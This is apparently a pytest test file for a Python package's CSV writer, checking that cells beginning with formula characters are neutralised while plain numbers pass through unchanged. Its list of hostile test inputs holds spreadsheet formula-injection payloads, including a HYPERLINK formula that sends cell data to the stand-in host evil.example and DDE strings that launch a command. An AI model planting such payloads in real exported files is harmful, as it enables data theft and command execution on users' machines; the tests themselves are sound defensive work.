"""The one CSV writer: formula-leading text is neutralised, numbers are left alone."""

from __future__ import annotations

import ast
import csv
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

import vein2vein
from vein2vein.support import FORMULA_PREFIXES, neutralise_cell, write_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_leading_text_gets_a_quote(cell: str) -> None:
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-0.5", "+3", "-1.2e-3", "P-01", "a=b", "", "negative"])
def test_plain_numbers_and_inner_signs_are_kept(cell: str) -> None:
    assert neutralise_cell(cell) == cell


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@given(st.text())
def test_no_written_cell_starts_a_formula_unless_it_is_a_number(text: str) -> None:
    out = neutralise_cell(text)
    # Only a plain number may keep a leading sign.
    assert not out.startswith(FORMULA_PREFIXES) or _is_number(out), out


def _cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_a_frame_keeps_numbers_and_neutralises_text_header_and_index(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "=cmd": ["=1+1", "ok"],
            "value": [-3.5, 2.0],
            "kind": pd.Categorical(["@x", "y"]),
            "mixed": ["-0.5", "-x"],
        },
        index=pd.Index(["+a", "b"], name="@id"),
    )
    path = write_csv(frame, tmp_path / "t.csv", index=True)
    assert _cells(path) == [
        ["'@id", "'=cmd", "value", "kind", "mixed"],
        ["'+a", "'=1+1", "-3.5", "'@x", "-0.5"],
        ["b", "ok", "2.0", "y", "'-x"],
    ]
    assert frame.iloc[0, 0] == "=1+1"  # the caller's frame is not changed


def test_rows_with_a_header_and_mappings(tmp_path: Path) -> None:
    path = write_csv(
        [{"id": "=1", "n": -1}, {"id": 'two,\n"quoted"', "n": 2}],
        tmp_path / "r.csv",
        header=["id", "n"],
    )
    assert _cells(path) == [["id", "n"], ["'=1", "-1"], ['two,\n"quoted"', "2"]]


def test_every_csv_vein2vein_writes_goes_through_the_one_writer() -> None:
    """No ``to_csv``, ``csv.writer`` or ``csv.DictWriter`` outside ``support``."""
    root = Path(vein2vein.__file__).parent
    offenders = []
    for path in sorted(root.rglob("*.py")):
        if path.parent.name == "support":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not isinstance(node, ast.Attribute):
                continue
            from_csv_module = isinstance(node.value, ast.Name) and node.value.id == "csv"
            if node.attr == "to_csv" or (from_csv_module and node.attr in ("writer", "DictWriter")):
                offenders.append(f"{path.relative_to(root)}:{node.lineno}")
    assert offenders == []
